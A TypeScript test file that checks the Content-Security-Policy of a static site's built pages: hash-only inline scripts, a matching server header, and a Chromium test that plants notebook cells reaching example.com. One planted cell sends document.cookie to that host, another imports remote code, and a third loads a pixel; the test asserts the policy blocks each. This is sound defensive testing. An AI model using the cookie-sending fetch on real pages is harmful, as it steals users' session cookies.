// The Content-Security-Policy of every built page (scripts/csp.ts): in the page and from `npm run serve`, allowing
// exactly the page's own inline scripts by their hashes; and in Chromium, cells that try to reach another host
// are stopped by it.
import {createHash} from "node:crypto";
import {readFileSync, writeFileSync} from "node:fs";
import {request} from "node:http";
import {join} from "node:path";
import {JSDOM} from "jsdom";
import type {Browser} from "playwright-core";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {launchBrowser} from "../../scripts/browser.js";
import {serveStatic, type StaticServer} from "../../scripts/static-server.js";
import {buildSite, copySeedProject, distDir, removeSite, walkFiles} from "../helpers/site.js";

const pages = [...walkFiles(distDir)].filter((f) => f.endsWith(".html"));

// A directive's sources: "script-src 'self' 'sha256-…'" → ["'self'", "'sha256-…'"].
const sources = (policy: string, directive: string) =>
  policy
    .split(";")
    .map((d) => d.trim().split(/\s+/))
    .find(([name]) => name === directive)
    ?.slice(1) ?? [];

// The response headers of a GET.
const headersOf = (url: string) =>
  new Promise<Record<string, unknown>>((resolve, reject) =>
    request(url, (res) => {
      res.resume();
      res.on("end", () => resolve(res.headers));
    })
      .on("error", reject)
      .end()
  );

describe("the policy of every built page", () => {
  it.each(pages.map((p) => p.slice(distDir.length + 1)))("%s", (page) => {
    const html = readFileSync(join(distDir, page), "utf-8");
    const {document} = new JSDOM(html).window;
    const metas = [...document.querySelectorAll('meta[http-equiv="content-security-policy" i]')];
    expect(metas).toHaveLength(1);
    // Before every script: a policy applies only to what comes after it.
    const first = document.querySelector("script");
    expect(first && metas[0].compareDocumentPosition(first) & 4).toBe(4);
    const policy = metas[0].getAttribute("content")!;
    for (const directive of ["default-src", "style-src", "img-src", "font-src", "connect-src"])
      expect(
        sources(policy, directive).filter((s) => !["'self'", "'unsafe-inline'", "data:", "blob:"].includes(s))
      ).toEqual([]);
    const scripts = sources(policy, "script-src");
    expect(scripts).not.toContain("'unsafe-inline'");
    expect(scripts).not.toContain("'unsafe-eval'");
    expect(scripts.filter((s) => !s.startsWith("'sha256-"))).toEqual(["'self'", "'unsafe-hashes'"]);
    // Every inline script the page holds, hashed here as the browser does, is allowed.
    const inline = [...document.querySelectorAll("script:not([src])")].map(
      (s) => `'sha256-${createHash("sha256").update(s.textContent!).digest("base64")}'`
    );
    expect(inline.length).toBeGreaterThan(1);
    for (const hash of inline) expect(scripts).toContain(hash);
  });

  it("is sent as a header by npm run serve, the same as the page's", async () => {
    const server = await serveStatic(distDir, 0, {cdn: true});
    try {
      for (const [path, file] of [
        ["/", "index.html"],
        ["/fact-check", "fact-check.html"]
      ]) {
        const meta = new JSDOM(readFileSync(join(distDir, file), "utf-8")).window.document
          .querySelector('meta[http-equiv="content-security-policy"]')!
          .getAttribute("content");
        expect((await headersOf(`${server.url}${path}`))["content-security-policy"]).toBe(meta);
      }
      expect((await headersOf(`${server.url}/card.png`))["content-security-policy"]).toBeUndefined();
    } finally {
      await server.close();
    }
  });
});

// Cells that try to reach another host, each showing what happened to it. The page and the server each give the
// policy, so a browser reports each block twice: once is enough here.
const HOSTILE = `
## Cells that try to reach out

\`\`\`js
const sent = fetch("https://example.com/?c=" + encodeURIComponent(document.cookie)).then(() => "sent", () => "blocked");
\`\`\`

<p class="fetch-result">\${sent}</p>

\`\`\`js
const loaded = import(["https:", "", "example.com", "module.js"].join("/")).then(() => "loaded", () => "blocked");
\`\`\`

<p class="import-result">\${loaded}</p>

\`\`\`js
display(html\`<img class="pixel" alt="" src=\${["https:", "", "example.com", "pixel.png"].join("/")}>\`);
\`\`\`
`;

describe("in Chromium, a page whose cells try to reach another host", () => {
  let root: string;
  let server: StaticServer;
  let browser: Browser;
  beforeAll(async () => {
    root = copySeedProject();
    const prose = join(root, "data", "story.md");
    writeFileSync(prose, readFileSync(prose, "utf-8").replace("\n::: corrections", `${HOSTILE}\n::: corrections`));
    const {code, output} = await buildSite(root);
    if (code !== 0) throw new Error(output.slice(-3000));
    server = await serveStatic(join(root, "dist"));
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    if (root) removeSite(root);
  });

  it("sends nothing and loads nothing: the policy blocks the fetch, the import and the image", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    // What reaches the network for another host (a request the policy blocks never does): recorded, then aborted,
    // so that nothing leaves this machine even if the policy failed.
    const offsite: string[] = [];
    await context.route(/^https?:\/\/(?!127\.0\.0\.1[:/])/, (route) => {
      offsite.push(route.request().url());
      return route.abort();
    });
    await page.addInitScript(() => {
      (window as unknown as {blocked: string[]}).blocked = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        (window as unknown as {blocked: string[]}).blocked.push(`${e.effectiveDirective} ${e.blockedURI}`)
      );
    });
    await page.goto(server.url, {waitUntil: "networkidle"});
    await expect.poll(() => page.textContent(".fetch-result")).toBe("blocked");
    await expect.poll(() => page.textContent(".import-result")).toBe("blocked");
    await expect
      .poll(() => page.evaluate(() => [...new Set((window as unknown as {blocked: string[]}).blocked)].sort()))
      .toEqual([
        "connect-src https://example.com/?c=",
        "img-src https://example.com/pixel.png",
        "script-src-elem https://example.com/module.js"
      ]);
    expect(offsite).toEqual([]);
    await context.close();
  });
});
